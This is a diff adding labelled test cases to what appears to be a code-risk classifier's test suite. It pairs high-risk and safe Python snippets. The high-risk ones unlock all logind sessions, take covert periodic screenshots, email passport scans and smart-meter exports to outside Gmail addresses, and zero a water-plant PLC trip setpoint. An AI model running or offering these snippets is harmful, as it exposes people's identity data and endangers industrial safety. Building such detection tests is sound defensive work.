@@ -8133,6 +8133,80 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             'k><id>101</id><Enable>false</Enable></Track>", auth=("admin", "x"))\n',
             H,
         ),
+        # holdout221-231: logind and GNOME Shell over D-Bus, data shares mailed out, Logix tags written
+        (
+            'import dbus\n'
+            'bus = dbus.SystemBus()\n'
+            'mgr = dbus.Interface(bus.get_object("org.freedesktop.login1", "/org/freedesktop/'
+            'login1"), "org.freedesktop.login1.Manager")\n'
+            'mgr.UnlockSessions()\n',
+            H,
+        ),
+        (
+            'import dbus\n'
+            'bus = dbus.SystemBus()\n'
+            'mgr = dbus.Interface(bus.get_object("org.freedesktop.login1", "/org/freedesktop/'
+            'login1"), "org.freedesktop.login1.Manager")\n'
+            'print(mgr.ListSessions())\n',
+            S,
+        ),
+        (
+            'import time, requests\n'
+            'from pydbus import SessionBus\n'
+            'shot = SessionBus().get("org.gnome.Shell.Screenshot", "/org/gnome/Shell/Screensh'
+            'ot")\n'
+            'while True:\n'
+            '    ok, path = shot.Screenshot(False, False, "/tmp/.s.png")\n'
+            '    time.sleep(30)\n',
+            H,
+        ),
+        (
+            'import glob, smtplib\n'
+            'from email.message import EmailMessage\n'
+            'msg = EmailMessage()\n'
+            'msg["To"] = "docs.collector88@gmail.com"\n'
+            'for path in glob.glob("/srv/visa_docs/**/passport_*.jpg", recursive=True):\n'
+            '    with open(path, "rb") as f:\n'
+            '        msg.add_attachment(f.read(), maintype="image", subtype="jpeg")\n'
+            'with smtplib.SMTP_SSL("smtp.gmail.com", 465) as s:\n'
+            '    s.send_message(msg)\n',
+            H,
+        ),
+        (
+            'import glob, smtplib\n'
+            'from email.message import EmailMessage\n'
+            'msg = EmailMessage()\n'
+            'msg["To"] = "ops@agency.example"\n'
+            'for path in glob.glob("/srv/visa_docs/**/report_*.pdf", recursive=True):\n'
+            '    with open(path, "rb") as f:\n'
+            '        msg.add_attachment(f.read(), maintype="application", subtype="pdf")\n'
+            'with smtplib.SMTP("smtp.agency.example") as s:\n'
+            '    s.send_message(msg)\n',
+            S,
+        ),
+        (
+            'import smtplib\n'
+            'from email.message import EmailMessage\n'
+            'from pathlib import Path\n'
+            'export = Path("/srv/ami/exports/interval_reads_2024.csv.gz")\n'
+            'msg = EmailMessage(); msg["To"] = "j.harlan.consulting@gmail.com"\n'
+            'msg.add_attachment(export.read_bytes(), maintype="application", subtype="gzip")\n'
+            'with smtplib.SMTP_SSL("smtp.gmail.com", 465) as s:\n'
+            '    s.send_message(msg)\n',
+            H,
+        ),
+        (
+            'from pycomm3 import LogixDriver\n'
+            'with LogixDriver("10.20.3.10/0") as plc:\n'
+            '    plc.write("Clearwell_LL_Trip_SP", 0.0)\n',
+            H,
+        ),
+        (
+            'from pycomm3 import LogixDriver\n'
+            'with LogixDriver("10.20.3.10/0") as plc:\n'
+            '    print(plc.read("Clearwell_Level"))\n',
+            S,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
